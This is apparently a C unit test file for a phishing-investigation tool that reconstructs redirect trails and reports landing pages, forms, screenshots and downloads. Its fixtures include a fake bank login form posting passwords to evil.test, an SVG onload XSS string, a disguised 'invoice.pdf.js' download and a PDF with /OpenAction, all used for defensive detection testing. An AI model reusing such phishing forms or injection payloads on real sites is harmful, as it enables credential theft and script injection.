/*
 * Where a trail came to rest, read back from a case: pictures, forms, downloads and
 * attachments, each at its hop, and a case that lies about them.
 */
#include "tests/kit/put_exchange.h"
#include "ui/report/report.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <unistd.h>

#include <cmocka.h>

#define NAVIGATES                                                                              \
	"Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\nSec-Fetch-User: ?1\r\n"
#define PICTURE(name) span_of("\x89PNG\r\n\x1a\n" name, 8 + sizeof name - 1)
#define LINK "http://click.test/1"
#define LOGIN "http://bank.test/login"
#define FILE_URL "http://bank.test/get?f=1"

struct read_back {
	struct gather g;
	struct arena arena;
	struct report report;
};

static void read_back(struct read_back *r, const struct temp_case *t)
{
	struct err err = {0};
	*r = (struct read_back){0};
	if (!gather_open(&r->g, t->path, 0, &err) || !gather_read(&r->g, NULL, &err) ||
		!report_make(&r->g, 0, &r->arena, &r->report, &err))
		fail_msg("%s: %s", err_word(err.kind), err.detail);
}

static void forget(struct read_back *r)
{
	arena_fini(&r->arena);
	gather_close(&r->g);
}

static const struct report_landing *landing_of(const struct read_back *r, const char *url)
{
	for (size_t i = 0; i < r->report.n_trails; i++)
		for (size_t k = 0; k < r->report.trails[i].n_hops; k++)
			if (span_is(r->report.trails[i].hops[k].hop->url, url))
				return r->report.trails[i].hops[k].landing;
	fail_msg("no hop %s", url);
	return NULL;
}

static const char *detail(const struct landing_download *d, const char *name)
{
	static char text[300];
	for (size_t i = 0; i < d->n_details; i++)
		if (strcmp(d->details[i].name, name) == 0) {
			snprintf(text, sizeof text, "%.*s", (int)d->details[i].value.n,
				(const char *)d->details[i].value.p);
			return text;
		}
	return "";
}

static const char login_page[] =
	"<title>Your bank</title><form action=http://evil.test/p.php method=post>"
	"<input name=user><input name=pass type=password></form>"
	"<a href='https://play.google.com/store/apps/details?id=com.bad.app'>our app</a>";

/* A redirect, a page that is a login, pictures of it, and a file that it hands out in a frame.
 */
static void a_login_page_is_told(void **state)
{
	(void)state;
	struct temp_case t;
	struct read_back r;
	temp_case_start(&t);
	int64_t s = put_session(&t, LINK);
	PUT_EXCHANGE(&t, s, .url = LINK, .at_ms = 10, .request = NAVIGATES, .status = 302,
		.headers = "Location: " LOGIN "\r\n");
	int64_t page = PUT_EXCHANGE(&t, s, .url = LOGIN, .at_ms = 50, .request = NAVIGATES,
		.body = span_str(login_page));
	PUT_EXCHANGE(&t, s, .url = FILE_URL, .at_ms = 200,
		.request = "Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: iframe\r\n",
		.headers = "Content-Disposition: attachment; filename=\"invoice.pdf.js\"\r\n",
		.type = "application/octet-stream", .body = span_str("var x = 1;\n"));
	/* What a script fetches is no download, whatever it is called. */
	PUT_EXCHANGE(&t, s, .url = "http://bank.test/api", .at_ms = 210,
		.request = "Sec-Fetch-Mode: cors\r\nSec-Fetch-Dest: empty\r\n",
		.headers = "Content-Disposition: attachment; filename=f.txt\r\n",
		.type = "application/json", .body = span_str("{}"));
	put_attachment(&t, s, 1100, page, "screenshot", PICTURE("one"));
	put_attachment(&t, s, 5100, page, "screenshot", PICTURE("two"));
	put_attachment(&t, s, 5200, FACT_NULL, "screenshot", PICTURE("three"));
	put_attachment(&t, s, 5300, page, "screenshot", span_str("<svg onload=alert(1)>"));
	put_attachment(&t, s, 5400, FACT_NULL, "image", PICTURE("qr"));
	put_session_end(&t, s, 6000, "page");
	temp_case_close(&t);
	read_back(&r, &t);
	assert_null(landing_of(&r, LINK));
	const struct report_landing *l = landing_of(&r, LOGIN);
	assert_non_null(l);
	assert_int_equal(l->hop, 2);
	assert_true(span_is(l->title, "Your bank"));
	assert_int_equal(l->n_forms, 1);
	assert_true(span_is(l->forms[0].action, "http://evil.test/p.php"));
	assert_true(l->forms[0].elsewhere && l->forms[0].to_plain_http);
	assert_string_equal(l->forms[0].fields[1].asks, "password");
	/* Pictures of it, that of nothing that came over a connection, and what is none has no
	 * pixels. */
	assert_int_equal(l->n_shots, 4);
	assert_true(span_eq(l->shots[0].png, PICTURE("one")));
	assert_true(span_eq(l->shots[2].png, PICTURE("three")));
	assert_null(l->shots[3].png.p);
	assert_int_equal(l->shots[1].exchange, page);
	/* A store's link, and the file. */
	assert_int_equal(l->n_downloads, 2);
	assert_string_equal(detail(&l->downloads[0], "package"), "com.bad.app");
	const struct landing_download *d = &l->downloads[1];
	assert_true(span_is(d->name, "invoice.pdf.js"));
	assert_string_equal(d->kind, "js");
	assert_int_equal(d->size, 11);
	assert_int_equal(d->sha256.n, 32);
	/* All of them, in order, beside. */
	assert_int_equal(r.report.attachments.n, 5);
	assert_true(span_is(r.report.attachments.list[4].kind, "image"));
	assert_false(r.report.attachments.more);
	forget(&r);
	temp_case_fini(&t);
}

static const char pdf[] = "%PDF-1.4\n/OpenAction";

/* A trail that ends in a file; packed on the wire, and once not stored whole. */
static void a_download_is_told(void **state)
{
	(void)state;
	static const uint8_t gzip[] = {0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x02,
		0x03, 0x53, 0x0d, 0x70, 0x71, 0xd3, 0x35, 0xd4, 0x33, 0xe1, 0xd2, 0xf7, 0x2f,
		0x48, 0xcd, 0x73, 0x4c, 0x2e, 0xc9, 0xcc, 0xcf, 0x03, 0x00, 0x35, 0xed, 0xc9,
		0x53, 0x14, 0x00, 0x00, 0x00};
	for (int round = 0; round < 2; round++) {
		struct temp_case t;
		struct read_back r;
		uint8_t digest[SHA256_LEN];
		bool packed = round == 0;
		struct span body = packed ? span_of(gzip, sizeof gzip) : span_str(pdf);
		temp_case_start(&t);
		int64_t s = put_session(&t, FILE_URL);
		PUT_EXCHANGE(&t, s, .url = FILE_URL, .at_ms = 10, .request = NAVIGATES,
			.type = "application/pdf",
			.headers = packed ? "Content-Encoding: gzip\r\n"
					    "Content-Disposition: attachment\r\n"
					  : "Content-Disposition: attachment\r\n",
			.body = body, .lost = packed ? 0 : 10);
		put_session_end(&t, s, 6000, "download");
		temp_case_close(&t);
		read_back(&r, &t);
		const struct report_landing *l = landing_of(&r, FILE_URL);
		assert_non_null(l);
		assert_int_equal(l->n_forms, 0);
		assert_int_equal(l->n_downloads, 1);
		const struct landing_download *d = &l->downloads[0];
		assert_true(span_is(d->name, "get"));
		assert_string_equal(d->kind, "pdf");
		assert_string_equal(detail(d, "version"), "1.4");
		/* What was not stored was hashed as it passed. */
		sha256(span_str(pdf), digest);
		assert_int_equal(d->size, sizeof pdf - 1);
		assert_true(span_eq(d->sha256, span_of(digest, sizeof digest)));
		assert_string_equal(detail(d, "holds"), packed ? "/OpenAction" : "");
		forget(&r);
		temp_case_fini(&t);
	}
}

/* A file that a page handed out before the visitor went on is that page's, and no other's; one
 * that is a step of its own belongs to itself. */
static void files_have_one_owner(void **state)
{
	(void)state;
	struct temp_case t;
	struct read_back r;
	temp_case_start(&t);
	int64_t s = put_session(&t, LOGIN);
	PUT_EXCHANGE(&t, s, .url = LOGIN, .at_ms = 10, .request = NAVIGATES,
		.body = span_str("<p>first"));
	PUT_EXCHANGE(&t, s, .url = FILE_URL, .at_ms = 200,
		.request = "Sec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: iframe\r\n",
		.headers = "Content-Disposition: attachment\r\n", .body = span_str("MZ"));
	PUT_EXCHANGE(&t, s, .url = "http://other.test/", .at_ms = 9000, .request = NAVIGATES,
		.body = span_str("<p>second"));
	PUT_EXCHANGE(&t, s, .url = "http://other.test/setup.exe", .at_ms = 20000,
		.request = NAVIGATES "Referer: http://other.test/\r\n",
		.headers = "Content-Disposition: attachment\r\n", .body = span_str("MZ"));
	put_session_end(&t, s, 30000, "download");
	temp_case_close(&t);
	read_back(&r, &t);
	const struct report_landing *first = landing_of(&r, LOGIN),
				    *second = landing_of(&r, "http://other.test/"),
				    *file = landing_of(&r, "http://other.test/setup.exe");
	assert_non_null(first);
	assert_non_null(file);
	assert_int_equal(first->n_downloads, 1);
	assert_true(span_is(first->downloads[0].url, FILE_URL));
	assert_int_equal(second != NULL ? second->n_downloads : 0, 0);
	assert_int_equal(file->n_downloads, 1);
	assert_true(span_is(file->downloads[0].name, "setup.exe"));
	assert_string_equal(file->downloads[0].kind, "dos-exe");
	forget(&r);
	temp_case_fini(&t);
}

/* Once a case is at rest one trail is read without the rest; what was attached is there too. */
static void one_trail_has_its_pictures(void **state)
{
	(void)state;
	struct temp_case t;
	struct gather g;
	struct report report;
	struct arena a = {0};
	struct err err = {0};
	bool found = false;
	temp_case_start(&t);
	int64_t s = put_session(&t, LOGIN);
	int64_t page = PUT_EXCHANGE(&t, s, .url = LOGIN, .at_ms = 10, .request = NAVIGATES,
		.body = span_str(login_page));
	put_attachment(&t, s, 1100, page, "screenshot", PICTURE("one"));
	put_session_end(&t, s, 6000, "page");
	assert_true(gather_open(&g, t.path, s, &err) && gather_read(&g, NULL, &err) &&
		    gather_store(&g, t.writer, &err));
	gather_close(&g);
	temp_case_close(&t);
	assert_true(gather_open(&g, t.path, 0, &err));
	assert_true(gather_trail(&g, s, 1, &found, &err) && found);
	assert_non_null(g.summary);
	assert_true(report_make(&g, 0, &a, &report, &err));
	assert_int_equal(report.attachments.n, 1);
	assert_int_equal(report.trails[0].hops[0].landing->n_shots, 1);
	assert_int_equal(report.trails[0].hops[0].landing->n_forms, 1);
	arena_fini(&a);
	gather_close(&g);
	temp_case_fini(&t);
}

/* More than anybody put there in good faith. */
static void too_many_attachments_are_cut(void **state)
{
	(void)state;
	struct temp_case t;
	struct read_back r;
	temp_case_start(&t);
	int64_t s = put_session(&t, LOGIN);
	int64_t page = PUT_EXCHANGE(&t, s, .url = LOGIN, .at_ms = 10, .request = NAVIGATES,
		.body = span_str("<p>hello"));
	for (int i = 0; i < GATHER_ATTACHED_MAX + 1; i++)
		put_attachment(&t, s, 1000 + i, page, "screenshot", PICTURE("x"));
	temp_case_close(&t);
	read_back(&r, &t);
	assert_int_equal(r.report.attachments.n, GATHER_ATTACHED_MAX);
	assert_true(r.report.attachments.more);
	const struct report_landing *l = landing_of(&r, LOGIN);
	assert_int_equal(l->n_shots, LANDING_SHOTS_MAX);
	assert_true(l->more);
	forget(&r);
	temp_case_fini(&t);
}

/* A companion gives what was put beside the case, but not if it is another case's. */
static void a_companion_is_read(void **state)
{
	(void)state;
	struct temp_case t, c;
	struct read_back r;
	struct err err = {0};
	temp_case_start(&t);
	put_session(&t, LOGIN);
	const char *id = writer_case_id(t.writer);
	char of[100];
	snprintf(of, sizeof of, "of case %s", id);
	temp_case_close(&t);
	read_back(&r, &t);
	for (int round = 0; round < 2; round++) {
		struct fact_custody f;
		bool mine = true;
		temp_case_start(&c);
		fact_init(FACT_KIND_CUSTODY, &f);
		f.act = span_str("companion");
		f.detail = span_str(round == 0 ? "of case 00" : of);
		temp_case_put(&c, FACT_KIND_CUSTODY, &f);
		put_attachment(&c, FACT_NULL, 5, FACT_NULL, "file", span_str("a photo"));
		temp_case_close(&c);
		assert_true(landing_attach(c.path, &r.arena, &r.report, &mine, &err));
		assert_int_equal(mine, round == 1);
		assert_int_equal(r.report.attachments.n, (size_t)round);
		temp_case_fini(&c);
	}
	assert_true(r.report.attachments.list[0].from_companion);
	assert_true(span_is(r.report.attachments.list[0].data, "a photo"));
	forget(&r);
	temp_case_fini(&t);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_login_page_is_told),
		cmocka_unit_test(a_download_is_told),
		cmocka_unit_test(files_have_one_owner),
		cmocka_unit_test(one_trail_has_its_pictures),
		cmocka_unit_test(too_many_attachments_are_cut),
		cmocka_unit_test(a_companion_is_read),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
